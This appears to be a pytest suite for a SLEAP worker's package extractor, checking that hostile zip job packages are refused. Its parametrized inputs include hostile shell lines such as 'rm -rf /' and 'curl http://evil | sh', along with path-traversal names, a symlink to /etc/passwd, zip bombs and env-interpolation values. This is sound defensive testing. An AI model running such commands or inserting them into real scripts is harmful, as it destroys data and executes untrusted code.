"""Hostile-package tests and command building for SLEAP training-job packages."""

from __future__ import annotations

import warnings
import zipfile
from pathlib import Path

import pytest
import yaml

from sleap_rtc.worker.package import (
    PackageError,
    PackageLimits,
    extract_package,
    load_plan,
    safe_relpath,
    track_argv,
    train_argv,
)
from worker_helpers import package_entries, write_zip


def refused(tmp_path: Path, zip_path: Path, match: str, limits: PackageLimits = PackageLimits()) -> None:
    """Assert extraction is refused with ``match`` and leaves nothing behind anywhere."""
    before = set(tmp_path.rglob("*"))
    with pytest.raises(PackageError, match=match):
        extract_package(zip_path, tmp_path / "job", limits)
    assert set(tmp_path.rglob("*")) == before, "a refused package must leave no files"


def test_tiny_package_extracts_and_plans(tmp_path, tiny_package):
    job = extract_package(tiny_package, tmp_path / "job")
    assert sorted(p.name for p in job.iterdir()) == ["jobs.yaml", "single_instance.yaml", "tiny.pkg.slp", "train-script.sh"]
    plan = load_plan(job)
    assert plan.source == "jobs.yaml"
    (train,) = plan.training
    assert (train.cfg, train.run_path, train.ckpt_dir, train.run_name) == (
        "single_instance.yaml", "models/single_instance.n=10", "models", "single_instance.n=10")
    (inf,) = plan.inference
    assert inf.models == ("models/single_instance.n=10",) and inf.data_path == "tiny.pkg.slp"
    argv = train_argv(train, sleap_nn="sleap-nn", publish_port=5001, controller_port=5002, accelerator="cpu")
    assert argv[:3] == ["sleap-nn", "train", "single_instance.yaml"]
    assert 'trainer_config.run_name="single_instance.n=10"' in argv
    assert "trainer_config.zmq.publish_port=5001" in argv and "trainer_config.zmq.controller_port=5002" in argv
    assert "trainer_config.trainer_accelerator=cpu" in argv
    assert track_argv(inf, device="cpu") == [
        "sleap-nn", "track", "-i", "tiny.pkg.slp", "-m", "models/single_instance.n=10",
        "-o", "tiny.pkg.slp.predictions.slp", "-d", "cpu"]


def test_inference_frame_selection_reaches_sleap_nn(tmp_path, tiny_package):
    """``only_labeled_frames`` / ``only_suggested_frames`` in jobs.yaml become sleap-nn flags."""
    import yaml

    entries = package_entries(tiny_package)
    jobs = yaml.safe_load(entries["jobs.yaml"])
    jobs["inference"][0]["only_labeled_frames"] = True
    entries["jobs.yaml"] = yaml.safe_dump(jobs).encode()
    (inf,) = load_plan(extract_package(write_zip(tmp_path / "p.zip", entries), tmp_path / "job")).inference
    assert inf.only_labeled_frames and not inf.only_suggested_frames
    argv = track_argv(inf)
    assert "--only_labeled_frames" in argv and "--only_suggested_frames" not in argv


def test_train_script_fallback_maps_sleap_train(tmp_path, tiny_package):
    entries = package_entries(tiny_package)
    del entries["jobs.yaml"]
    job = extract_package(write_zip(tmp_path / "p.zip", entries), tmp_path / "job")
    plan = load_plan(job)
    assert plan.source == "train-script.sh" and not plan.inference
    (train,) = plan.training
    assert train.cfg == "single_instance.yaml" and train.run_path == "models/single_instance.n=10"


@pytest.mark.parametrize("line", [
    "rm -rf / ; sleap train --config-name a.yaml",
    "curl http://evil | sh",
    "sleap train --config-name single_instance.yaml --config-dir . --exec=bash",
    "python -c 'import os'",
])
def test_train_script_refuses_anything_but_train(tmp_path, tiny_package, line):
    entries = package_entries(tiny_package)
    del entries["jobs.yaml"]
    entries["train-script.sh"] = f"#!/bin/bash\n{line}\n".encode()
    job = extract_package(write_zip(tmp_path / "p.zip", entries), tmp_path / "job")
    with pytest.raises(PackageError):
        load_plan(job)


@pytest.mark.parametrize("name,match", [
    ("../evil.txt", r"'\.\.'"),
    ("a/../../evil.txt", r"'\.\.'"),
    ("/etc/evil", "absolute"),
    ("C:/evil", "absolute"),
    ("..\\evil.txt", r"'\.\.'"),
])
def test_path_escapes_refused(tmp_path, name, match):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        z = write_zip(tmp_path / "p.zip", {"jobs.yaml": b"{}", name: b"x"})
    refused(tmp_path, z, match)
    assert not (tmp_path.parent / "evil.txt").exists()


def test_symlink_refused(tmp_path):
    z = write_zip(tmp_path / "p.zip", {"jobs.yaml": b"{}", "link": b"/etc/passwd"}, symlinks=("link",))
    refused(tmp_path, z, "symbolic link")


def test_duplicates_refused(tmp_path):
    z = tmp_path / "p.zip"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        with zipfile.ZipFile(z, "w") as zf:
            zf.writestr("jobs.yaml", "{}")
            zf.writestr("JOBS.yaml", "{}")
    refused(tmp_path, z, "twice")


def test_too_many_files_refused(tmp_path):
    z = write_zip(tmp_path / "p.zip", {f"f{i}.txt": b"" for i in range(11)})
    refused(tmp_path, z, "entries", PackageLimits(max_files=10))


def test_too_large_refused(tmp_path):
    z = write_zip(tmp_path / "p.zip", {"a.bin": b"x" * 5000, "b.bin": b"y" * 5000}, compress=False)
    refused(tmp_path, z, "more than", PackageLimits(max_total_bytes=8000))


def test_zip_bomb_refused(tmp_path):
    z = write_zip(tmp_path / "p.zip", {"bomb.bin": b"\0" * (4 * 1024 * 1024)})
    refused(tmp_path, z, "zip bomb")


def test_lying_header_stopped_while_extracting(tmp_path):
    # Patch the declared size in the central directory down so the entry inflates past it.
    z = write_zip(tmp_path / "p.zip", {"a.txt": b"A" * 1000})
    data = bytearray(z.read_bytes())
    cd = data.rfind(b"PK\x01\x02")
    data[cd + 24: cd + 28] = (10).to_bytes(4, "little")  # uncompressed size
    z.write_bytes(bytes(data))
    with pytest.raises(PackageError):
        extract_package(z, tmp_path / "job")
    assert not (tmp_path / "job").exists()


def test_not_a_zip(tmp_path):
    bad = tmp_path / "p.zip"
    bad.write_bytes(b"this is not a zip")
    refused(tmp_path, bad, "not a readable zip")


def test_no_jobs_and_no_script(tmp_path):
    job = extract_package(write_zip(tmp_path / "p.zip", {"x.txt": b"hi"}), tmp_path / "job")
    with pytest.raises(PackageError, match="neither jobs.yaml nor train-script.sh"):
        load_plan(job)


@pytest.mark.parametrize("mutate,match", [
    (lambda j: j["training"][0].update(cfg="../../etc/x.yaml"), r"'\.\.'"),
    (lambda j: j["training"][0].update(run_path="/tmp/models/x"), "absolute"),
    (lambda j: j["training"][0].update(run_path='models/a"b'), "characters"),
    (lambda j: j["training"][0].update(cfg="missing.yaml"), "not in the package"),
    (lambda j: j["inference"][0].update(models=["models/other"]), "neither trained"),
    (lambda j: j["inference"][0].update(output_path="/root/x.slp"), "absolute"),
])
def test_hostile_jobs_yaml(tmp_path, tiny_package, mutate, match):
    entries = package_entries(tiny_package)
    jobs = yaml.safe_load(entries["jobs.yaml"])
    mutate(jobs)
    entries["jobs.yaml"] = yaml.safe_dump(jobs).encode()
    job = extract_package(write_zip(tmp_path / "p.zip", entries), tmp_path / "job")
    with pytest.raises(PackageError, match=match):
        load_plan(job)


@pytest.mark.parametrize("patch,match", [
    ({"data_config": {"train_labels_path": ["/home/someone/secret.slp"]}}, "absolute"),
    ({"trainer_config": {"resume_ckpt_path": "../../x.ckpt"}}, r"'\.\.'"),
    ({"trainer_config": {"run_name": "${oc.env:HOME}"}}, "interpolation"),
])
def test_hostile_config(tmp_path, tiny_package, patch, match):
    entries = package_entries(tiny_package)
    cfg = yaml.safe_load(entries["single_instance.yaml"])
    for section, values in patch.items():
        cfg[section].update(values)
    entries["single_instance.yaml"] = yaml.safe_dump(cfg).encode()
    job = extract_package(write_zip(tmp_path / "p.zip", entries), tmp_path / "job")
    with pytest.raises(PackageError, match=match):
        load_plan(job)


def test_safe_relpath_normalises():
    assert safe_relpath("./a//b/./c.slp", "x") == "a/b/c.slp"
    for bad in ("", None, 3, "a\x00b", ".", "/"):
        with pytest.raises(PackageError):
            safe_relpath(bad, "x")


@pytest.mark.parametrize("entry,content", [
    ("jobs.yaml", b"[" * 5000),  # nesting deep enough to hit Python's recursion limit
    ("single_instance.yaml", b"[" * 5000),
])
def test_deeply_nested_yaml_is_refused_cleanly(tmp_path, tiny_package, entry, content):
    entries = package_entries(tiny_package)
    entries[entry] = content
    job = extract_package(write_zip(tmp_path / "p.zip", entries), tmp_path / "job")
    with pytest.raises(PackageError, match="not valid YAML"):
        load_plan(job)


def test_train_script_with_a_non_mapping_trainer_config_gives_a_plan_or_a_clear_error(tmp_path, tiny_package):
    """`trainer_config: [1]` used to escape as AttributeError from the train-script path."""
    entries = package_entries(tiny_package)
    del entries["jobs.yaml"]
    entries["train-script.sh"] = b"sleap train --config-name single_instance.yaml --config-dir .\n"
    cfg = yaml.safe_load(entries["single_instance.yaml"])
    cfg["trainer_config"] = [1]
    entries["single_instance.yaml"] = yaml.safe_dump(cfg).encode()
    job = extract_package(write_zip(tmp_path / "p.zip", entries), tmp_path / "job")
    try:
        plan = load_plan(job)
    except PackageError:
        return  # refused with a message: fine
    (train,) = plan.training
    assert train.run_path == "models/single_instance"


# ---------------------------------------------------------------------------- hostile configs (parsed)


def _with_config(tmp_path: Path, tiny_package: Path, text: str, extra: dict[str, bytes] | None = None) -> Path:
    """The tiny package with its config replaced by ``text`` (raw YAML), extracted."""
    entries = package_entries(tiny_package)
    entries["single_instance.yaml"] = text.encode()
    entries.update(extra or {})
    return extract_package(write_zip(tmp_path / "p.zip", entries), tmp_path / "job")


def _tiny_config_text(tiny_package: Path) -> str:
    return package_entries(tiny_package)["single_instance.yaml"].decode()


@pytest.mark.parametrize("escaped", [r'"\x24{oc.env:SECRET}"', r'"\u0024{oc.env:SECRET}"', r'"\U00000024{oc.env:SECRET}"'])
def test_w4_yaml_escaped_interpolation_refused(tmp_path, tiny_package, escaped):
    """The text holds no "${": only the parsed string does (the old check read the text)."""
    text = _tiny_config_text(tiny_package).replace("val_labels_path: null", f"val_labels_path: {escaped}")
    assert "${" not in text and "oc.env" in text
    job = _with_config(tmp_path, tiny_package, text)
    with pytest.raises(PackageError, match="interpolation"):
        load_plan(job)


def test_w4_interpolation_in_a_key_or_a_list_refused(tmp_path, tiny_package):
    for patch in ('  "\\x24{oc.env:SECRET}": 1\n', "  extra: [a, \"\\x24{oc.env:SECRET}\"]\n"):
        text = _tiny_config_text(tiny_package).replace("data_config:\n", "data_config:\n" + patch, 1)
        sub = tmp_path / str(len(patch))
        sub.mkdir()
        job = _with_config(sub, tiny_package, text)
        with pytest.raises(PackageError, match="interpolation"):
            load_plan(job)


@pytest.mark.parametrize("value,match", [("/tmp/elsewhere", "absolute"), ("../../elsewhere", r"'\.\.'"), ("~/x", "absolute")])
def test_w5_cache_img_path_outside_the_job_refused(tmp_path, tiny_package, value, match):
    text = _tiny_config_text(tiny_package).replace(
        "data_pipeline_fw: torch_dataset", f"data_pipeline_fw: torch_dataset_cache_img_disk\n  cache_img_path: {value}")
    job = _with_config(tmp_path, tiny_package, text)
    with pytest.raises(PackageError, match=match):
        load_plan(job)


def test_w5_cache_img_path_is_forced_inside_the_job_dir(tmp_path, tiny_package):
    text = _tiny_config_text(tiny_package).replace(
        "data_pipeline_fw: torch_dataset", "data_pipeline_fw: torch_dataset_cache_img_disk\n  cache_img_path: imgs")
    job = _with_config(tmp_path, tiny_package, text)
    load_plan(job, rewrite_configs=True)
    cfg = yaml.safe_load((job / "single_instance.yaml").read_text())
    cache = Path(cfg["data_config"]["cache_img_path"])
    assert cache.is_absolute() and cache.is_relative_to(job.resolve())


@pytest.mark.parametrize("section", [
    "hydra:\n  searchpath: [file:///etc]\n",
    "defaults:\n  - secret\n",
    "something_else: 1\n",
])
def test_w6_hydra_and_defaults_refused(tmp_path, tiny_package, section):
    job = _with_config(tmp_path, tiny_package, _tiny_config_text(tiny_package) + section)
    with pytest.raises(PackageError, match="workers accept only"):
        load_plan(job)


def _labels_with_video(tmp_path: Path, tiny_package: Path, video_path: str) -> bytes:
    import sleap_io as sio

    src = tmp_path / "src.slp"
    src.write_bytes(package_entries(tiny_package)["tiny.pkg.slp"])
    labels = sio.load_slp(str(src), open_videos=False)
    labels.replace_videos(old_videos=[labels.videos[0]], new_videos=[sio.Video(filename=video_path, open_backend=False)])
    out = tmp_path / "hostile.slp"
    sio.save_slp(labels, str(out), embed=False)
    return out.read_bytes()


@pytest.mark.parametrize("video", ["/tmp/outside-the-job/secret.mp4", "../../outside/secret.mp4"])
def test_w7_video_path_outside_the_job_refused(tmp_path, tiny_package, video):
    entries = package_entries(tiny_package)
    entries["tiny.pkg.slp"] = _labels_with_video(tmp_path, tiny_package, video)
    job = extract_package(write_zip(tmp_path / "p.zip", entries), tmp_path / "job")
    with pytest.raises(PackageError, match="outside the package"):
        load_plan(job)


def test_w7_video_inside_the_package_is_accepted(tmp_path, tiny_package):
    entries = package_entries(tiny_package)
    entries["tiny.pkg.slp"] = _labels_with_video(tmp_path, tiny_package, "videos/clip.mp4")
    entries["videos/clip.mp4"] = b"not really a video, but inside the job"
    job = extract_package(write_zip(tmp_path / "p.zip", entries), tmp_path / "job")
    assert load_plan(job).training


def test_embedded_frames_are_accepted(tmp_path, tiny_package):
    job = extract_package(tiny_package, tmp_path / "job")
    assert load_plan(job).training  # the tiny package's frames are embedded in tiny.pkg.slp


def test_w8_wandb_forced_off(tmp_path, tiny_package):
    text = _tiny_config_text(tiny_package).replace("use_wandb: false", "use_wandb: true\n  wandb:\n    wandb_mode: offline")
    job = _with_config(tmp_path, tiny_package, text)
    load_plan(job, rewrite_configs=True)
    cfg = yaml.safe_load((job / "single_instance.yaml").read_text())
    assert cfg["trainer_config"]["use_wandb"] is False
